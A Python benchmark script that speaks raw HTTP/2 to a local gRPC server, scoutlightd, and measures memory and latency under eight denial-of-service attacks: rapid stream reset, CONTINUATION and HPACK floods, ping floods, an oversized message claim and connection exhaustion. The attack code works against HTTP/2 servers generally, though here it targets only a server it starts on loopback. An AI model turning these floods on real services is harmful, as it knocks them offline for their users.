"""Measures what a hostile peer costs the server, by a client that speaks raw HTTP/2: what SECURITY.md says.

    ./dev build && /usr/bin/python3 bench/hostile.py --server=bin/scoutlightd

Each attack meets a server of its own on loopback, lasts a few seconds and ends by itself. Meanwhile another client asks for the server's
health over new connections. Prints a table: what was sent, the server's memory before, at most and afterwards, how long the other client
waited at most, and what became of the server. Not a test: it judges nothing.
"""

import argparse
import contextlib
import pathlib
import re
import resource
import select
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

MIB = 1 << 20
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = 8
INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FIRST_WINDOW = 65535
WATCH, PUT, CHECK = "/grpc.health.v1.Health/Watch", "/scoutlight.registry.v1.RegistryService/Put", "/grpc.health.v1.Health/Check"
EMPTY_MESSAGE = b"\0\0\0\0\0"  # gRPC's message header alone.
PROBE_TIMEOUT = 5.0


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header that is not indexed (RFC 7541, 6.2.2), its texts as they are."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def call_headers(method):
    return b"".join(literal(*header) for header in ((":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "x"),
                                                    ("te", "trailers"), ("content-type", "application/grpc")))


class Connection:
    """A connection on which the preface and empty settings have been sent."""

    def __init__(self, address, acknowledge=True):
        self.socket = socket.create_connection(address, timeout=PROBE_TIMEOUT)
        self.acknowledge, self.closed, self.received = acknowledge, False, b""
        self.windows = {0: FIRST_WINDOW, 1: FIRST_WINDOW}  # Of the connection and of its first stream.
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def send(self, data):
        """False: the server has closed the connection, or takes nothing more."""
        try:
            self.socket.sendall(data)
        except OSError:
            self.closed = True
        return not self.closed

    def read(self, seconds):
        """The frames that have come, after waiting so long at most for the first."""
        frames = []
        while not self.closed and select.select([self.socket], [], [], seconds)[0]:
            try:
                data = self.socket.recv(1 << 16)
            except OSError:
                data = b""
            self.closed = not data
            self.received += data
            seconds = 0
        while len(self.received) >= 9:
            size = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + size:
                break
            kind, flags, stream = self.received[3], self.received[4], int.from_bytes(self.received[5:9], "big")
            payload, self.received = self.received[9:9 + size], self.received[9 + size:]
            frames.append((kind, flags, payload))
            if kind == SETTINGS and not flags & ACK and self.acknowledge:
                self.send(frame(SETTINGS, ACK, 0))
            if kind == WINDOW_UPDATE and stream in self.windows:
                self.windows[stream] += int.from_bytes(payload, "big")
            if kind == SETTINGS:
                for setting, value in struct.iter_unpack(">HI", payload):
                    self.windows[1] += value - FIRST_WINDOW if setting == INITIAL_WINDOW_SIZE else 0
        return frames


def probe(address):
    """How long a health check over a new connection takes; nothing when it is not answered in time."""
    start = time.monotonic()
    try:
        with Connection(address) as connection:
            connection.send(frame(HEADERS, END_HEADERS, 1, call_headers(CHECK)) + frame(DATA, END_STREAM, 1, EMPTY_MESSAGE))
            while time.monotonic() < start + PROBE_TIMEOUT and not connection.closed:
                if any(kind == DATA for kind, _, _ in connection.read(0.1)):
                    return time.monotonic() - start
    except OSError:
        pass
    return None


class Server:
    def __init__(self, program, descriptors=None):
        limit = (lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (descriptors, descriptors))) if descriptors else None
        command = [program, "--store=memory", "--listen=127.0.0.1:0"]
        self.process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True, preexec_fn=limit)
        for line in self.process.stderr:
            if found := re.search(r"listening on ([\d.]+):(\d+)", line):
                self.address = (found[1], int(found[2]))
                break
        threading.Thread(target=self.process.stderr.read, daemon=True).start()

    def resident(self):
        with contextlib.suppress(OSError, TypeError):
            status = pathlib.Path(f"/proc/{self.process.pid}/status").read_text(encoding="utf-8")
            return int(re.search(r"VmRSS:\s+(\d+)", status)[1]) * 1024
        return 0

    def stop(self):
        """What became of it: it went on, or how it ended."""
        ended = self.process.poll()
        if ended is None:
            self.process.send_signal(signal.SIGKILL)
        self.process.wait()
        return "served on" if ended is None else f"ended with {ended}"


class Observer(threading.Thread):
    """Looks at the server's memory, and how long others wait, until it is told to stop."""

    def __init__(self, server):
        super().__init__(daemon=True)
        self.server, self.over = server, threading.Event()
        self.before = self.peak = server.resident()
        self.longest, self.unanswered = 0.0, 0

    def run(self):
        while not self.over.is_set():
            took = probe(self.server.address)
            self.unanswered += took is None
            self.longest = max(self.longest, took or 0)
            self.peak = max(self.peak, self.server.resident())
            self.over.wait(0.05)


def repeat(seconds, step):
    """Calls `step` until it says False, at most so long; how often."""
    count, end = 0, time.monotonic() + seconds
    while time.monotonic() < end and step():
        count += 1
    return count


def rapid_reset(address, seconds):
    with Connection(address) as connection:
        streams = iter(range(1, 1 << 31, 2))

        def step():
            batch = b""
            for _ in range(100):
                stream = next(streams)
                batch += frame(HEADERS, END_HEADERS, stream, call_headers(WATCH)) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            connection.read(0)
            return connection.send(batch)

        return f"{100 * repeat(seconds, step):,} streams opened and reset on one connection"


def unacknowledged_settings(address, seconds):
    with Connection(address, acknowledge=False) as connection:
        streams = iter(range(1, 1 << 31, 2))

        def step():
            batch = b"".join(frame(HEADERS, END_HEADERS, stream, call_headers(WATCH)) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
                             for stream in (next(streams) for _ in range(100)))
            connection.read(0)
            return connection.send(batch)

        return f"{100 * repeat(seconds, step):,} streams opened on one connection that never acknowledges the settings"


def continuation_flood(address, seconds):
    with Connection(address) as connection:
        piece = frame(CONTINUATION, 0, 1, literal("x-" + "n" * 50, "v" * 100) * 100)
        connection.send(frame(HEADERS, 0, 1, call_headers(WATCH)))
        sent = repeat(seconds, lambda: connection.send(piece)) * len(piece)
        return f"one header block of {sent // MIB:,} MiB, which does not end"


def padded_integers(address, seconds):
    with Connection(address) as connection:
        # A table size update (RFC 7541, 6.3) whose number has zeros without end.
        piece = frame(CONTINUATION, 0, 1, b"\x80" * 16_000)
        connection.send(frame(HEADERS, 0, 1, b"\x3f"))
        sent = repeat(seconds, lambda: connection.send(piece)) * len(piece)
        return f"an HPACK integer of {sent / MIB:,.1f} MiB"


def claimed_gibibyte(address, seconds):
    with Connection(address) as connection:
        connection.send(frame(HEADERS, END_HEADERS, 1, call_headers(PUT)))
        connection.send(frame(DATA, 0, 1, b"\0" + struct.pack(">I", 1 << 30)))
        for stream in connection.windows:
            connection.windows[stream] -= len(EMPTY_MESSAGE)
        sent, piece, end = 0, frame(DATA, 0, 1, b"x" * 16_000), "time was over"

        def step():
            nonlocal sent, end
            may_send = min(connection.windows.values()) >= 16_000
            frames = connection.read(0 if may_send else 1)
            if connection.closed or any(kind == RST_STREAM for kind, _, _ in frames):
                end = "it was cut off"
                return False
            if min(connection.windows.values()) < 16_000:
                if not may_send and not frames:
                    end = "the server took no more"
                    return False
                return True
            for stream in connection.windows:
                connection.windows[stream] -= 16_000
            sent += 16_000
            return connection.send(piece)

        repeat(seconds, step)
        return f"a message of 1 GiB claimed, {sent // MIB} MiB of it sent until {end}"


def pings(address, seconds):
    with Connection(address) as connection:
        piece = frame(PING, 0, 0, b"12345678") * 1000
        return f"{1000 * repeat(seconds, lambda: connection.read(0) is not None and connection.send(piece)):,} pings on one connection"


def silence(address, seconds):
    with contextlib.ExitStack() as stack:
        silent = [stack.enter_context(socket.create_connection(address)) for _ in range(200)]
        start, left = time.monotonic(), list(silent)
        while left and time.monotonic() < start + 2 * seconds:
            readable, _, _ = select.select(left, [], [], 0.5)
            left = [each for each in left if each not in readable or each.recv(4096)]
        return f"200 connections that say nothing: {200 - len(left)} closed by the server within {time.monotonic() - start:.1f} s"


def descriptors(address, seconds):
    with contextlib.ExitStack() as stack:
        opened = 0
        with contextlib.suppress(OSError):
            for opened in range(300):
                stack.enter_context(socket.create_connection(address, timeout=1))
        time.sleep(seconds / 5)
    start = time.monotonic()
    while probe(address) is None and time.monotonic() < start + 4 * seconds:
        time.sleep(0.1)
    answer = probe(address)
    then = "answered again" if answer is not None else "did not answer any more"
    return f"{opened + 1} connections at once, with 64 descriptors; {time.monotonic() - start:.1f} s after they were closed it {then}"


ATTACKS = (rapid_reset, unacknowledged_settings, continuation_flood, padded_integers, claimed_gibibyte, pings, silence)


def measure(program, attack, seconds, **options):
    server = Server(program, **options)
    observer = Observer(server)
    observer.start()
    what = attack(server.address, seconds)
    time.sleep(1)
    observer.over.set()
    observer.join()
    after = server.resident()
    waited = f"{observer.longest * 1000:,.0f} ms" + (f", {observer.unanswered} unanswered" if observer.unanswered else "")
    memory = " | ".join(f"{size // MIB:,}" for size in (observer.before, observer.peak, after))
    print(f"| {attack.__name__.replace('_', ' ')} | {what} | {memory} | {waited} | {server.stop()} |", flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--server", required=True, help="the program scoutlightd")
    parser.add_argument("--seconds", type=float, default=5, help="how long an attack lasts at most")
    arguments = parser.parse_args()
    print("| attack | what was sent | MiB before | at most | after | others waited at most | the server |\n|---|---|---|---|---|---|---|")
    for attack in ATTACKS:
        measure(arguments.server, attack, arguments.seconds)
    measure(arguments.server, descriptors, arguments.seconds, descriptors=64)


if __name__ == "__main__":
    sys.exit(main())
